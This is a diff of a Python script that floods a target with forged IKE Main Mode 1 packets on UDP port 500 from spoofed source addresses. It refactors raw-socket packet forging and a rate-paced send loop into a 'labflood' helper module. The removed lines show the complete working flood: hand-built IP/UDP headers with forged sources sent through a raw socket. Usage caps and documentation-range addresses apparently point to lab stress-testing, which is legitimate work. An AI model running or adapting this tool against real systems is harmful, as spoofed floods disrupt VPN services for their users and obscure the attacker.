@@ -10,10 +10,11 @@ usage: mm1_flood.py DST SRC_PREFIX FIRST_HOST SOURCES COUNT RATE MAX_SECONDS
   e.g. mm1_flood.py 192.0.2.1 192.0.2. 20 200 100000 5000 60
 """
 import os
-import socket
 import struct
 import sys
-import time
+
+sys.dont_write_bytecode = True  # no __pycache__ in the source tree
+import labflood  # noqa: E402
 
 
 def mm1(icookie: bytes) -> bytes:
@@ -34,36 +35,10 @@ def mm1(icookie: bytes) -> bytes:
 
 
 def main() -> int:
-    if len(sys.argv) != 8:
-        print(__doc__, file=sys.stderr)
-        return 2
-    dst, prefix = sys.argv[1], sys.argv[2]
-    first, sources, count, rate, max_s = (int(x) for x in sys.argv[3:])
-    if not (1 <= sources <= 250 and count <= 1_000_000 and rate <= 100_000 and max_s <= 300):
-        print("limits exceeded", file=sys.stderr)
-        return 2
-    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
-    srcs = [socket.inet_aton(prefix + str(first + i)) for i in range(sources)]
-    dst_b = socket.inet_aton(dst)
-    t0 = time.monotonic()
-    sent = 0
-    batch = max(1, rate // 100)  # 100 batches a second
-    while sent < count and time.monotonic() - t0 < max_s:
-        for _ in range(min(batch, count - sent)):
-            payload = mm1(b"\xf1" + os.urandom(7))
-            udp = struct.pack("!HHHH", 500, 500, 8 + len(payload), 0) + payload
-            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
-                             srcs[sent % sources], dst_b)
-            try:
-                s.sendto(ip + udp, (dst, 0))
-            except OSError:
-                pass
-            sent += 1
-        ahead = t0 + sent / rate - time.monotonic()
-        if ahead > 0:
-            time.sleep(ahead)
-    el = time.monotonic() - t0
+    dst, prefix, first, sources, count, rate, max_s = labflood.parse_args(__doc__, 1_000_000, 100_000, 300)
+    forger = labflood.Forger(dst, prefix, first, sources)
+    sent, el = labflood.paced(count, rate, max_s,
+                              lambda n: forger.send(n, mm1(b"\xf1" + os.urandom(7))))
     print(f"sent {sent} forged MM1 from {sources} sources in {el:.2f} s ({sent / el:.0f}/s)")
     return 0
 
